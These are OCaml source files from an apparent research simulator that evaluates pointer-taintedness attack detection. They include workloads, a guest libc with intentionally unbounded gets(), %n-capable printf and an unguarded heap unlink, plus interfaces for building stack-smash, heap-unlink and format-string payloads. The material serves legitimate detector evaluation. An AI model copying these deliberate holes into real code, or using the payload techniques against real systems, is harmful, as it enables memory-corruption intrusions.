    input = (fun () -> Wl_bzip.input ()) }

let gcc =
  { name = "GCC";
    description = "expression compiler: recursive-descent parse, stack-VM codegen, constant folding";
    source = Wl_gcc.source;
    input = (fun () -> Wl_gcc.input ()) }

let gzip =
  { name = "GZIP";
    description = "LZ77 sliding-window compressor with in-guest decompression check";
    source = Wl_gzip.source;
    input = (fun () -> Wl_gzip.input ()) }

let mcf =
  { name = "MCF";
    description = "network optimisation: Bellman-Ford shortest paths with fixpoint verification";
    source = Wl_mcf.source;
    input = (fun () -> Wl_mcf.input ()) }

let parser =
  { name = "PARSER";
    description = "text analysis: tokenizer, hashed dictionary, sentence statistics";
    source = Wl_parser.source;
    input = (fun () -> Wl_parser.input ()) }

let vpr =
  { name = "VPR";
    description = "placement: simulated-annealing swap optimisation of netlist wirelength";
    source = Wl_vpr.source;
    input = (fun () -> Wl_vpr.input ()) }

let all = [ bzip2; gcc; gzip; mcf; parser; vpr ]

type row = {
  workload : t;
  program_bytes : int;
  input_bytes : int;
  instructions : int;
  alerts : int;
  outcome : Ptaint_sim.Sim.outcome;
  stdout : string;
}

(* compile results are shared across batch jobs, so the cache must be
   safe to hit from concurrent domains *)
let cache : (string * bool, Ptaint_asm.Program.t) Hashtbl.t = Hashtbl.create 12
let cache_lock = Mutex.create ()

let program_with ~untaint_writeback w =
  let cached () = Hashtbl.find_opt cache (w.name, untaint_writeback) in
  match Mutex.protect cache_lock cached with
  | Some p -> p
  | None ->
    let p =
      Ptaint_cc.Cc.compile ~untaint_writeback
        ~extra_asm:
          [ Ptaint_runtime.Runtime.crt0_asm; Ptaint_runtime.Runtime.syscalls_asm ]
        (String.concat "\n"
           [ Ptaint_runtime.Runtime.prototypes; w.source; Ptaint_runtime.Runtime.libc_c;
             Ptaint_runtime.Runtime.malloc_c ])
    in
    Mutex.protect cache_lock (fun () ->
        match cached () with
        | Some p -> p (* another domain compiled it first; keep one copy *)
        | None ->
          Hashtbl.replace cache (w.name, untaint_writeback) p;
          p)

let program w = program_with ~untaint_writeback:true w

let config_for w = Ptaint_sim.Sim.config ~stdin:(w.input ()) ~argv:[ w.name ] ()

(* one loaded image per workload; runs restore the snapshot
   copy-on-write instead of re-loading (policy/stdin may vary freely,
   only argv/env/sources are baked into the image) *)
let template_cache : (string, Ptaint_sim.Sim.template) Hashtbl.t = Hashtbl.create 12

let template w =
  let cached () = Hashtbl.find_opt template_cache w.name in
  match Mutex.protect cache_lock cached with
  | Some t -> t
  | None ->
    let t = Ptaint_sim.Sim.prepare ~config:(config_for w) (program w) in
    Mutex.protect cache_lock (fun () ->
        match cached () with
        | Some t -> t
        | None ->
          Hashtbl.replace template_cache w.name t;
          t)

let row_of w p (result : Ptaint_sim.Sim.result) =
  { workload = w;
    program_bytes = Ptaint_asm.Program.text_bytes p + Ptaint_asm.Program.data_bytes p;
    input_bytes = result.Ptaint_sim.Sim.input_bytes;
    instructions = result.Ptaint_sim.Sim.instructions;
    alerts = (match result.Ptaint_sim.Sim.outcome with Ptaint_sim.Sim.Alert _ -> 1 | _ -> 0);
    outcome = result.Ptaint_sim.Sim.outcome;
    stdout = result.Ptaint_sim.Sim.stdout }

let run ?(policy = Ptaint_cpu.Policy.default) ?(untaint_writeback = true) w =
  let config = { (config_for w) with Ptaint_sim.Sim.policy } in
  if untaint_writeback then
    row_of w (program w) (Ptaint_sim.Sim.run_template ~config (template w))
  else
    let p = program_with ~untaint_writeback w in
    row_of w p (Ptaint_sim.Sim.run ~config p)
