(* "PARSER": natural-language-flavoured text processing — tokenizer,
   open-addressing hash table of word frequencies, and per-sentence
   statistics.  Exercises PARSER's idioms: string hashing, table
   probing, dictionary-driven dispatch on tainted text. *)

let source =
  {|
char text[8000];
int textlen = 0;

int HASHSIZE = 509;
char table_words[509][16];
int table_counts[509];
int distinct = 0;

int hash_word(char *w, int len) {
  int h = 5381;
  int i;
  for (i = 0; i < len; i++) {
    char c = w[i];
    if (c < 0) return 0;           /* range-validate before arithmetic */
    h = (h * 33 + c) % 1000003;
  }
  h = h % 509;
  if (h < 0) h = h + 509;
  return h;
}

int is_letter(int c) {
  if (c >= 'a' && c <= 'z') return 1;
  if (c >= 'A' && c <= 'Z') return 1;
  return 0;
}

void record(char *w, int len) {
  if (len > 15) len = 15;
  char key[16];
  int i;
  for (i = 0; i < len; i++) {
    char c = w[i];
    if (c >= 'A' && c <= 'Z') c = c + 32;   /* lowercase */
    key[i] = c;
  }
  key[len] = 0;
  int h = hash_word(key, len);
  int probes = 0;
  while (probes < 509) {
    if (table_counts[h] == 0) {
      strcpy(table_words[h], key);
      table_counts[h] = 1;
      distinct++;
      return;
    }
    if (strcmp(table_words[h], key) == 0) {
      table_counts[h]++;
      return;
    }
    h = (h + 1) % 509;
    probes++;
  }
}

int main(void) {
  int r;
  while (textlen < 7400 && (r = read(0, text + textlen, 512)) > 0) textlen += r;
  int words = 0;
  int sentences = 0;
  int longest_sentence = 0;
  int current = 0;
  int i = 0;
  while (i < textlen) {
    int c = text[i];
    if (is_letter(c)) {
      int start = i;
      while (i < textlen && is_letter(text[i])) i++;
      record(text + start, i - start);
      words++;
      current++;
    } else {
      if (c == '.' || c == '!' || c == '?') {
        sentences++;
        if (current > longest_sentence) longest_sentence = current;
        current = 0;
      }
      i++;
    }
  }
  /* frequency statistics */
  int maxcount = 0;
  int maxslot = -1;
  int total = 0;
  for (i = 0; i < 509; i++) {
    total += table_counts[i];
    if (table_counts[i] > maxcount) {
      maxcount = table_counts[i];
      maxslot = i;
    }
  }
  if (total != words) {
    puts("COUNT MISMATCH");
    return 1;
  }
  printf("parser: %d words, %d distinct, %d sentences, longest %d, top '%s' x%d\n",
         words, distinct, sentences, longest_sentence, table_words[maxslot], maxcount);
  return 0;
}
|}

let input ?(bytes = 4000) () =
  let state = ref 24680 in
  let rand n =
    state := ((!state * 1103515245) + 12345) land 0x3FFFFFFF;
    !state lsr 9 mod n
  in
  let words =
    [| "time"; "person"; "year"; "way"; "day"; "thing"; "man"; "world"; "life";
       "hand"; "part"; "child"; "eye"; "woman"; "place"; "work"; "week"; "case";
       "point"; "government"; "company"; "number"; "group"; "problem"; "fact" |]
  in
  let buf = Buffer.create bytes in
  while Buffer.length buf < bytes do
    let sentence_len = 4 + rand 12 in
    for i = 0 to sentence_len - 1 do
      if i > 0 then Buffer.add_char buf ' ';
      Buffer.add_string buf words.(rand (Array.length words))
    done;
    Buffer.add_string buf ". "
  done;
  Buffer.sub buf 0 bytes
