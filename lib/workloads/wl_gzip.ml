(* "GZIP": LZ77 with a brute-force sliding-window match finder,
   in-guest decompression and verification.  Exercises gzip's idioms:
   window scanning with data-dependent loop exits, copy loops,
   length/distance token streams. *)

let source =
  {|
char text[6000];
char packed[9000];
char unpacked[6000];

int min_match = 3;
int max_match = 18;
int window = 64;

/* find the longest match for text[pos..] in the preceding window;
   returns length, stores distance through *dist */
int find_match(int pos, int n, int *dist) {
  int best_len = 0;
  int best_dist = 0;
  int start = pos - window;
  if (start < 0) start = 0;
  int cand;
  for (cand = start; cand < pos; cand++) {
    int len = 0;
    while (len < max_match && pos + len < n && text[cand + len] == text[pos + len]) len++;
    if (len > best_len) {
      best_len = len;
      best_dist = pos - cand;
    }
  }
  *dist = best_dist;
  return best_len;
}

/* token stream: 0 <char>  |  1 <len> <dist> */
int compress(int n) {
  int out = 0;
  int pos = 0;
  while (pos < n) {
    int dist = 0;
    int len = find_match(pos, n, &dist);
    if (len >= min_match) {
      packed[out] = 1;
      packed[out + 1] = len;
      packed[out + 2] = dist;
      out += 3;
      pos += len;
    } else {
      packed[out] = 0;
      packed[out + 1] = text[pos];
      out += 2;
      pos++;
    }
  }
  return out;
}

int decompress(int m) {
  int out = 0;
  int i = 0;
  while (i < m) {
    if (packed[i] == 1) {
      int len = packed[i + 1];
      int dist = packed[i + 2];
      if (len < 0 || len > 18) return -1;      /* corrupt stream guard */
      if (dist < 1 || dist > out) return -1;
      int k;
      for (k = 0; k < len; k++) {
        unpacked[out] = unpacked[out - dist];
        out++;
      }
      i += 3;
    } else {
      unpacked[out] = packed[i + 1];
      out++;
      i += 2;
    }
  }
  return out;
}

int main(void) {
  int n = 0;
  int r;
  while (n < 5400 && (r = read(0, text + n, 512)) > 0) n += r;
  int m = compress(n);
  int u = decompress(m);
  if (u != n) {
    printf("LENGTH MISMATCH %d != %d\n", u, n);
    return 1;
  }
  int i;
  for (i = 0; i < n; i++) {
    if (unpacked[i] != text[i]) {
      printf("VERIFY FAILED at %d\n", i);
      return 1;
    }
  }
  printf("gzip: %d bytes in, %d bytes packed, verify OK\n", n, m);
  return 0;
}
|}

let input ?(bytes = 2000) () = Wl_bzip.input ~bytes ()
