(** Guest runtime: startup code, syscall stubs and a small libc.

    The libc is written in Mini-C and runs {e on the simulated CPU},
    so taintedness propagates through it byte-by-byte exactly as it
    would through a real C library: [strcpy] copies taint bits,
    [malloc]/[free] maintain a doubly-linked free list whose [unlink]
    is the heap-corruption attack surface, and the [printf] family is
    built on a [vformat] core supporting [%d %u %x %c %s %n %hn %hhn]
    — the format-string attack surface. *)

val prototypes : string
(** C declarations for the syscall stubs and libc, to prepend to
    application sources. *)

val libc_c : string
(** string.h / stdlib.h / stdio.h subset implementation (Mini-C). *)

val malloc_c : string
(** The allocator, modelled on pre-hardening dlmalloc/glibc 2.x:
    boundary-tag chunks, a circular doubly-linked free bin, forward
    coalescing with an unguarded [unlink] (the 2004-era behaviour the
    paper's heap attacks exploit). *)

val crt0_asm : string
(** [_start]: marshals [argc]/[argv]/[envp] and calls [main]. *)

val syscalls_asm : string
(** Assembly stubs bridging the stack calling convention to the
    kernel's register convention. *)

val compile : ?extra_c:string list -> string -> Ptaint_asm.Program.t
(** [compile app_c] builds a full guest program: prototypes, the
    application source, [extra_c] units, libc, allocator, crt0 and
    stubs. *)
