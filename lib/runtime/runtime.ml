let prototypes =
  {|
/* syscall stubs (implemented in assembly) */
int read(int fd, char *buf, int n);
int write(int fd, char *buf, int n);
int open(char *path, int flags);
int close(int fd);
char *sbrk(int incr);
int recv(int s, char *buf, int n, int flags);
int send(int s, char *buf, int n, int flags);
int socket(void);
int accept(int s);
int getuid(void);
int setuid(int uid);
int exec(char *path);
int time(void);
int getpid(void);
void exit(int code);
int guard(char *p, int n);    /* annotate p[0..n) as never-tainted (5.3 extension) */
int unguard(char *p);

/* libc */
char *getenv(char *name);
int strlen(char *s);
char *strcpy(char *d, char *s);
char *strncpy(char *d, char *s, int n);
char *strcat(char *d, char *s);
int strcmp(char *a, char *b);
int strncmp(char *a, char *b, int n);
char *strchr(char *s, int c);
char *strstr(char *h, char *needle);
char *memcpy(char *d, char *s, int n);
char *memset(char *d, int c, int n);
int memcmp(char *a, char *b, int n);
int atoi(char *s);
int abs(int x);
void srand(int seed);
int rand(void);
char *malloc(int n);
char *calloc(int count, int size);
void free(char *p);
int putchar(int c);
int puts(char *s);
int gets(char *buf);
int readline(int fd, char *buf, int cap);
int vformat(char *out, int cap, char *fmt, char *ap);
int printf(char *fmt, ...);
int sprintf(char *out, char *fmt, ...);
int snprintf(char *out, int cap, char *fmt, ...);
int fdprintf(int fd, char *fmt, ...);
|}

let libc_c =
  {|
/* ---- environment ---- */

char **environ = 0;   /* filled in by crt0 before main runs */

char *getenv(char *name) {
  if (!environ) return 0;
  int n = strlen(name);
  int i;
  for (i = 0; environ[i]; i++) {
    if (strncmp(environ[i], name, n) == 0 && environ[i][n] == '=') {
      return environ[i] + n + 1;
    }
  }
  return 0;
}

/* ---- string.h subset ---- */

int strlen(char *s) {
  int n = 0;
  while (s[n]) n++;
  return n;
}

char *strcpy(char *d, char *s) {
  int i = 0;
  while (s[i]) { d[i] = s[i]; i++; }
  d[i] = 0;
  return d;
}

char *strncpy(char *d, char *s, int n) {
  int i = 0;
  while (i < n && s[i]) { d[i] = s[i]; i++; }
  while (i < n) { d[i] = 0; i++; }
  return d;
}

char *strcat(char *d, char *s) {
  strcpy(d + strlen(d), s);
  return d;
}

int strcmp(char *a, char *b) {
  int i = 0;
  while (a[i] && a[i] == b[i]) i++;
  return a[i] - b[i];
}

int strncmp(char *a, char *b, int n) {
  int i = 0;
  while (i < n) {
    if (a[i] != b[i]) return a[i] - b[i];
    if (!a[i]) return 0;
    i++;
  }
  return 0;
}

char *strchr(char *s, int c) {
  int i = 0;
  while (s[i]) {
    if (s[i] == c) return s + i;
    i++;
  }
  if (c == 0) return s + i;
  return 0;
}

char *strstr(char *h, char *needle) {
  int n = strlen(needle);
  if (n == 0) return h;
  int i = 0;
  while (h[i]) {
    if (strncmp(h + i, needle, n) == 0) return h + i;
    i++;
  }
  return 0;
}

char *memcpy(char *d, char *s, int n) {
  int i;
  for (i = 0; i < n; i++) d[i] = s[i];
  return d;
}

char *memset(char *d, int c, int n) {
  int i;
  for (i = 0; i < n; i++) d[i] = c;
  return d;
}

int memcmp(char *a, char *b, int n) {
  int i;
  for (i = 0; i < n; i++) {
    if (a[i] != b[i]) return a[i] - b[i];
  }
  return 0;
}

/* ---- stdlib.h subset ---- */

int atoi(char *s) {
  int n = 0;
  int neg = 0;
  int i = 0;
  while (s[i] == ' ' || s[i] == '\t') i++;
  if (s[i] == '-') { neg = 1; i++; }
  else if (s[i] == '+') i++;
  while (s[i]) {
    char c = s[i];
    if (c < '0' || c > '9') break;
    n = n * 10 + (c - '0');
    i++;
  }
  if (neg) return 0 - n;
  return n;
}

int abs(int x) {
  if (x < 0) return 0 - x;
  return x;
}

int _rand_state = 12345;

void srand(int seed) { _rand_state = seed; }

int rand(void) {
  _rand_state = _rand_state * 1103515245 + 12345;
  return (_rand_state >> 16) & 0x7fff;
}

/* ---- stdio.h subset ---- */

int putchar(int c) {
  char b[4];
  b[0] = c;
  write(1, b, 1);
  return c;
}

int puts(char *s) {
  write(1, s, strlen(s));
  write(1, "\n", 1);
  return 0;
}

/* The classic unbounded gets() — reads until newline or EOF with no
   bound on the destination: the stack-smash vulnerability surface. */
int gets(char *buf) {
  int i = 0;
  char c[4];
  while (read(0, c, 1) == 1) {
    if (c[0] == '\n') break;
    buf[i] = c[0];
    i++;
  }
  buf[i] = 0;
  return i;
}

/* Bounded line read, for code that is *not* meant to be vulnerable. */
int readline(int fd, char *buf, int cap) {
  int i = 0;
  char c[4];
  while (i < cap - 1) {
    if (read(fd, c, 1) != 1) break;
    if (c[0] == '\n') break;
    buf[i] = c[0];
    i++;
  }
  buf[i] = 0;
  return i;
}

int _fmt_putc(char *out, int cap, int pos, int c) {
  if (pos < cap - 1) out[pos] = c;
  return pos + 1;
}

/* The printf-family engine.  Supports %d %u %x %c %s %% with field
   width and zero padding, and the %n / %hn / %hhn write-back
   directives.  The argument pointer [ap] walks words upward through
   the caller's frame, exactly the mechanics the format-string attack
   abuses: with a user-controlled format string, %x moves [ap] into
   attacker data and %n dereferences an attacker-supplied word. */
int vformat(char *out, int cap, char *fmt, char *ap) {
  int pos = 0;
  int i = 0;
  while (fmt[i]) {
    char c = fmt[i];
    if (c != '%') {
      pos = _fmt_putc(out, cap, pos, c);
      i++;
      continue;
    }
    i++;
    int zero_pad = 0;
    int width = 0;
    if (fmt[i] == '0') { zero_pad = 1; i++; }
    while (fmt[i] >= '0' && fmt[i] <= '9') {
      width = width * 10 + (fmt[i] - '0');
      i++;
    }
    int half = 0;
    while (fmt[i] == 'h') { half++; i++; }
    char d = fmt[i];
    if (d) i++;
    if (d == '%') pos = _fmt_putc(out, cap, pos, '%');
    else if (d == 'c') {
      int v = *(int *)ap;
      ap = ap + 4;
      pos = _fmt_putc(out, cap, pos, v);
    }
    else if (d == 's') {
      char *s = *(char **)ap;
      ap = ap + 4;
      int k = 0;
      while (s[k]) {
        pos = _fmt_putc(out, cap, pos, s[k]);
        k++;
      }
      while (k < width) { pos = _fmt_putc(out, cap, pos, ' '); k++; }
    }
    else if (d == 'd' || d == 'u' || d == 'x') {
      unsigned v = *(unsigned *)ap;
      ap = ap + 4;
      char tmp[16];
      int neg = 0;
      if (d == 'd' && (int)v < 0) {
        neg = 1;
        v = 0 - v;
      }
      int k = 0;
      if (v == 0) { tmp[k] = '0'; k++; }
      while (v) {
        int digit;
        if (d == 'x') { digit = v % 16; v = v / 16; }
        else { digit = v % 10; v = v / 10; }
        if (digit < 10) tmp[k] = '0' + digit;
        else tmp[k] = 'a' + (digit - 10);
        k++;
      }
      if (neg) { tmp[k] = '-'; k++; }
      int printed = k;
      while (printed < width) {
        pos = _fmt_putc(out, cap, pos, zero_pad ? '0' : ' ');
        printed++;
      }
      while (k > 0) { k--; pos = _fmt_putc(out, cap, pos, tmp[k]); }
    }
    else if (d == 'n') {
      /* write the running count through the next argument word —
         with a tainted format string this dereferences an
         attacker-chosen pointer, the store the detector catches */
      char *p = *(char **)ap;
      ap = ap + 4;
      if (half >= 2) p[0] = pos;
      else if (half == 1) {
        p[0] = pos;
        p[1] = pos >> 8;
      }
      else {
        int *q = (int *)p;
        *q = pos;
      }
    }
    else pos = _fmt_putc(out, cap, pos, d);
  }
  if (cap > 0) {
    int end = pos;
    if (end > cap - 1) end = cap - 1;
    out[end] = 0;
  }
  return pos;
}

int printf(char *fmt, ...) {
  char buf[1024];
  char *ap = (char *)(&fmt) + 4;
  int n = vformat(buf, 1024, fmt, ap);
  write(1, buf, strlen(buf));
  return n;
}

int sprintf(char *out, char *fmt, ...) {
  char *ap = (char *)(&fmt) + 4;
  return vformat(out, 0x40000000, fmt, ap);
}

int snprintf(char *out, int cap, char *fmt, ...) {
  char *ap = (char *)(&fmt) + 4;
  return vformat(out, cap, fmt, ap);
}

int fdprintf(int fd, char *fmt, ...) {
  char buf[1024];
  char *ap = (char *)(&fmt) + 4;
  int n = vformat(buf, 1024, fmt, ap);
  write(fd, buf, strlen(buf));
  return n;
}
|}

let malloc_c =
  {|
/* ---- allocator ----

   Modelled on the pre-hardening dlmalloc/glibc-2.x design the paper's
   heap attacks target: boundary-tag chunks with the size word in the
   header (low bit = in use), free chunks threaded on one circular
   doubly-linked bin via fd/bk pointers stored in the user area, free
   reading the *next* chunk's header unconditionally (a permanently
   in-use fence chunk terminates the heap) and unlinking it for
   forward coalescing WITHOUT the modern FD->bk == P integrity check.
   Overflowing an allocation therefore corrupts the next chunk's
   fd/bk, and free() turns that into the classic arbitrary write
   `FD->bk = BK` — which dereferences a tainted pointer. */

struct chunk {
  int size;          /* total bytes including this header; bit 0 = in use */
  struct chunk *fd;  /* only meaningful while free */
  struct chunk *bk;
};

struct chunk _bin;
int _heap_ready = 0;
char *_heap_fence = 0;  /* address of the trailing in-use fence header */

void _bin_insert(struct chunk *c) {
  c->fd = _bin.fd;
  c->bk = &_bin;
  _bin.fd->bk = c;
  _bin.fd = c;
}

void _bin_unlink(struct chunk *c) {
  struct chunk *f = c->fd;
  struct chunk *b = c->bk;
  f->bk = b;
  b->fd = f;
}

int _heap_extend(int need) {
  int grab = need + 4;
  if (grab < 4096) grab = 4096;
  char *base = sbrk(grab);
  if ((int)base == -1) return 0;
  char *start = base;
  if (_heap_fence && base == _heap_fence + 4) start = _heap_fence;
  char *endhdr = base + grab - 4;
  struct chunk *fence = (struct chunk *)endhdr;
  fence->size = 1;   /* zero-length, permanently in use */
  _heap_fence = endhdr;
  struct chunk *fresh = (struct chunk *)start;
  fresh->size = endhdr - start;
  _bin_insert(fresh);
  return 1;
}

char *malloc(int n) {
  if (n < 0) return 0;
  if (!_heap_ready) {
    _bin.fd = &_bin;
    _bin.bk = &_bin;
    _heap_ready = 1;
  }
  int need = ((n + 3) & ~3) + 4;
  if (need < 16) need = 16;
  struct chunk *c = _bin.fd;
  while (c != &_bin) {
    if (c->size >= need) {
      _bin_unlink(c);
      if (c->size - need >= 16) {
        struct chunk *rest = (struct chunk *)((char *)c + need);
        rest->size = c->size - need;
        _bin_insert(rest);
        c->size = need;
      }
      c->size = c->size | 1;
      return (char *)c + 4;
    }
    c = c->fd;
  }
  if (!_heap_extend(need)) return 0;
  return malloc(n);
}

char *calloc(int count, int size) {
  int total = count * size;
  char *p = malloc(total);
  if (p) memset(p, 0, total);
  return p;
}

void free(char *p) {
  if (!p) return;
  struct chunk *c = (struct chunk *)(p - 4);
  c->size = c->size & ~1;
  /* Forward coalescing: read the next header unconditionally (the
     fence chunk guarantees one exists for legitimate frees) and
     unlink it if it is free.  A corrupted or fake size field makes
     `next` — and a corrupted fd/bk makes `f`/`b` — attacker data. */
  struct chunk *next = (struct chunk *)((char *)c + c->size);
  if (!(next->size & 1)) {
    _bin_unlink(next);
    c->size = c->size + next->size;
  }
  _bin_insert(c);
}
|}

let crt0_asm =
  {|
        .text
_start:
        lw $a0, 0($sp)          # argc
        addiu $a1, $sp, 4       # argv
        addiu $a2, $a0, 1
        sll $a2, $a2, 2
        addu $a2, $a1, $a2      # envp = argv + 4*(argc+1)
        la $t0, environ         # publish envp for getenv()
        sw $a2, 0($t0)
        addiu $sp, $sp, -12     # cdecl: main(argc, argv, envp)
        sw $a0, 0($sp)
        sw $a1, 4($sp)
        sw $a2, 8($sp)
        jal main
        move $a0, $v0
        li $v0, 1               # SYS_exit
        syscall
|}

let syscalls_asm =
  {|
        .text
exit:
        li $v0, 1
        lw $a0, 0($sp)
        syscall
        jr $ra                  # not reached
read:
        li $v0, 2
        lw $a0, 0($sp)
        lw $a1, 4($sp)
        lw $a2, 8($sp)
        syscall
        jr $ra
write:
        li $v0, 3
        lw $a0, 0($sp)
        lw $a1, 4($sp)
        lw $a2, 8($sp)
        syscall
        jr $ra
open:
        li $v0, 4
        lw $a0, 0($sp)
        lw $a1, 4($sp)
        syscall
        jr $ra
close:
        li $v0, 5
        lw $a0, 0($sp)
        syscall
        jr $ra
sbrk:
        li $v0, 6
        lw $a0, 0($sp)
        syscall
        jr $ra
recv:
        li $v0, 7
        lw $a0, 0($sp)
        lw $a1, 4($sp)
        lw $a2, 8($sp)
        syscall
        jr $ra
send:
        li $v0, 8
        lw $a0, 0($sp)
        lw $a1, 4($sp)
        lw $a2, 8($sp)
        syscall
        jr $ra
socket:
        li $v0, 9
        syscall
        jr $ra
accept:
        li $v0, 10
        lw $a0, 0($sp)
        syscall
        jr $ra
getuid:
        li $v0, 11
        syscall
        jr $ra
setuid:
        li $v0, 12
        lw $a0, 0($sp)
        syscall
        jr $ra
exec:
        li $v0, 13
        lw $a0, 0($sp)
        syscall
        jr $ra
time:
        li $v0, 14
        syscall
        jr $ra
getpid:
        li $v0, 15
        syscall
        jr $ra
guard:
        li $v0, 16
        lw $a0, 0($sp)
        lw $a1, 4($sp)
        syscall
        jr $ra
unguard:
        li $v0, 17
        lw $a0, 0($sp)
        syscall
        jr $ra
|}

let compile ?(extra_c = []) app_c =
  let unit_ =
    String.concat "\n" ((prototypes :: app_c :: extra_c) @ [ libc_c; malloc_c ])
  in
  Ptaint_cc.Cc.compile ~extra_asm:[ crt0_asm; syscalls_asm ] unit_
