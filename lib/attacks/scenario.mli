(** Attack scenarios and the security-coverage matrix (section 5.1).

    A scenario bundles a vulnerable guest program, the malicious input
    that exploits it, a benign input for false-positive checking, and
    an oracle that recognises a successful compromise.  Running a
    scenario under each protection policy yields the coverage matrix
    the paper's evaluation is built around: pointer taintedness
    detects everything, control-data-only protection misses the
    non-control-data attacks, and no protection lets them succeed. *)

type kind = Control_data | Non_control_data

type verdict =
  | Detected of Ptaint_cpu.Machine.alert
  | Compromised of string  (** evidence, e.g. "exec'd /bin/sh" *)
  | Crashed of string
  | Survived

type t = {
  name : string;
  kind : kind;
  description : string;
  build : unit -> Ptaint_asm.Program.t;
  attack_config : Ptaint_asm.Program.t -> Ptaint_sim.Sim.config;
  benign_config : (Ptaint_asm.Program.t -> Ptaint_sim.Sim.config) option;
  compromised : Ptaint_sim.Sim.result -> string option;
}

val run :
  ?policy:Ptaint_cpu.Policy.t -> t -> verdict * Ptaint_sim.Sim.result
(** Run the attack under [policy] (default: full pointer
    taintedness). *)

val run_benign :
  ?policy:Ptaint_cpu.Policy.t -> t -> verdict * Ptaint_sim.Sim.result
(** Run the benign workload — anything but [Survived] is a false
    positive (or an app bug). *)

val kind_name : kind -> string
val verdict_name : verdict -> string
val pp_verdict : Format.formatter -> verdict -> unit

val coverage_policies : (string * Ptaint_cpu.Policy.t) list
(** "none", "control-data only" (Minos-style), "pointer taintedness". *)

val main_frame_pointer : Ptaint_asm.Loader.image -> int
(** The guest [main]'s frame pointer, derived from the deterministic
    stack layout — what an attacker computes with a debugger. *)
