(** Attack scenarios and the security-coverage matrix (section 5.1).

    A scenario bundles a vulnerable guest program, a uniform list of
    named {!case}s — the malicious input that exploits it and the
    benign inputs for false-positive checking — and an oracle that
    recognises a successful compromise.  Running every case of every
    scenario under each protection policy yields the coverage matrix
    the paper's evaluation is built around: pointer taintedness
    detects everything, control-data-only protection misses the
    non-control-data attacks, and no protection lets them succeed.

    Because cases are plain data, batch drivers generate campaign jobs
    mechanically: [scenario × case × policy] enumerates the whole
    matrix (see [Ptaint_campaign.Campaign]). *)

type kind = Control_data | Non_control_data

type verdict =
  | Detected of Ptaint_cpu.Machine.alert
  | Compromised of string  (** evidence, e.g. "exec'd /bin/sh" *)
  | Crashed of string
  | Survived

type case = {
  case_name : string;  (** e.g. "attack", "benign" *)
  malicious : bool;
      (** malicious cases are expected to be [Detected] under pointer
          taintedness; benign cases must be [Survived] under every
          policy *)
  config : Ptaint_asm.Program.t -> Ptaint_sim.Sim.config;
}

type t = {
  name : string;
  kind : kind;
  description : string;
  build : unit -> Ptaint_asm.Program.t;
  cases : case list;  (** at least one malicious case *)
  compromised : Ptaint_sim.Sim.result -> string option;
}

val attack_case :
  ?name:string -> (Ptaint_asm.Program.t -> Ptaint_sim.Sim.config) -> case
(** A malicious case (default name ["attack"]). *)

val benign_case :
  ?name:string -> (Ptaint_asm.Program.t -> Ptaint_sim.Sim.config) -> case
(** A benign case (default name ["benign"]). *)

val attack : t -> case
(** The scenario's first malicious case. *)

val benign : t -> case option
(** The scenario's first benign case, if any. *)

val attack_config : t -> Ptaint_asm.Program.t -> Ptaint_sim.Sim.config
(** [attack_config t] is [(attack t).config] — the config of the
    primary exploit input. *)

val verdict_of : t -> Ptaint_sim.Sim.result -> verdict
(** Classify a finished simulation with the scenario's compromise
    oracle — what batch drivers apply to campaign results. *)

val run_case :
  t -> case -> Ptaint_cpu.Policy.t -> verdict * Ptaint_sim.Sim.result
(** Build the guest, run [case] under the given policy, classify. *)

val run :
  ?policy:Ptaint_cpu.Policy.t -> t -> verdict * Ptaint_sim.Sim.result
(** Run the primary attack case under [policy] (default: full pointer
    taintedness).  Thin wrapper over {!run_case}. *)

val run_benign :
  ?policy:Ptaint_cpu.Policy.t -> t -> verdict * Ptaint_sim.Sim.result
(** Run the first benign case — anything but [Survived] is a false
    positive (or an app bug).  Raises [Invalid_argument] when the
    scenario has no benign case. *)

val kind_name : kind -> string
val verdict_name : verdict -> string
val pp_verdict : Format.formatter -> verdict -> unit

val coverage_policies : (string * Ptaint_cpu.Policy.t) list
(** "none", "control-data only" (Minos-style), "pointer taintedness". *)

val main_frame_pointer : Ptaint_asm.Loader.image -> int
(** The guest [main]'s frame pointer, derived from the deterministic
    stack layout — what an attacker computes with a debugger. *)
