(** The attack catalogue evaluated in section 5.1: the three synthetic
    programs of Figure 2 (plus a function-pointer variant), and the
    four real-world application attacks (WU-FTPD, NULL HTTPD, GHTTPD,
    traceroute). *)

val exp1_stack_smash : Scenario.t
(** Paper payload: 24 'a' bytes; the tainted return address is
    0x61616161 at [jr $31]. *)

val exp1_ret2libc : Scenario.t
(** Same bug, targeted payload jumping to [root_shell] — demonstrably
    compromises the unprotected run. *)

val exp2_heap : Scenario.t
val exp3_format : Scenario.t
(** Paper payload: ["abcd%x%x%x%n"]; the tainted pointer is
    0x64636261 at the store inside the format engine. *)

val exp4_fnptr : Scenario.t
val wuftpd_format_uid : Scenario.t
val nullhttpd_cgi_root : Scenario.t
val ghttpd_url_pointer : Scenario.t
val traceroute_double_free : Scenario.t

val env_login : Scenario.t
(** Stack smash via an oversized $HOME — the environment taint
    source. *)

val logd_config : Scenario.t
(** Format-string attack via a poisoned configuration file — the
    file-system taint source. *)

val all : Scenario.t list
val real_world : Scenario.t list
val synthetic : Scenario.t list
val other_sources : Scenario.t list
