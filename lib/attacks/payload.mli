(** Attack payload construction.

    These helpers encode the byte-level mechanics real exploits use:
    little-endian address planting for stack smashes, fake chunk
    headers for heap unlink abuse, and the width-counted [%hhn]
    format-string write primitive. *)

val le_word : int -> string
(** Four little-endian bytes of a 32-bit value. *)

val fill : ?byte:char -> int -> string

val overflow_word : pad:int -> ?byte:char -> int -> string
(** [overflow_word ~pad value]: [pad] filler bytes followed by the
    little-endian [value] — the classic return-address smash. *)

val fake_chunk : size:int -> fd:int -> bk:int -> string
(** A forged free-chunk header (size word with the in-use bit clear,
    then fd and bk) as written past an overflowed allocation. *)

val format_write_bytes : ap_skip_words:int -> target:int -> bytes:int list -> string
(** A format string that writes [bytes] (low 8 bits each) to
    [target], [target+1], ... using width-padded [%x] directives to
    steer the output count and one [%hhn] per byte.  [ap_skip_words]
    is the distance in words from where the format engine's argument
    pointer starts to the buffer holding this payload (0 when the
    vulnerable copy is the lowest local of the caller).  The payload
    is self-contained: it embeds the junk words each [%x] consumes and
    the target addresses each [%hhn] dereferences, with all addresses
    placed after the directives so embedded NUL bytes do not truncate
    formatting. *)

val format_write_word : ap_skip_words:int -> target:int -> value:int -> string
(** [format_write_bytes] for the four bytes of [value]. *)

val normalize_path : string -> string
(** Resolve ["/a/b/../c"] to ["/a/c"] — used to judge whether a
    recorded [exec] path escapes its root. *)
