type kind = Control_data | Non_control_data

type verdict =
  | Detected of Ptaint_cpu.Machine.alert
  | Compromised of string
  | Crashed of string
  | Survived

type t = {
  name : string;
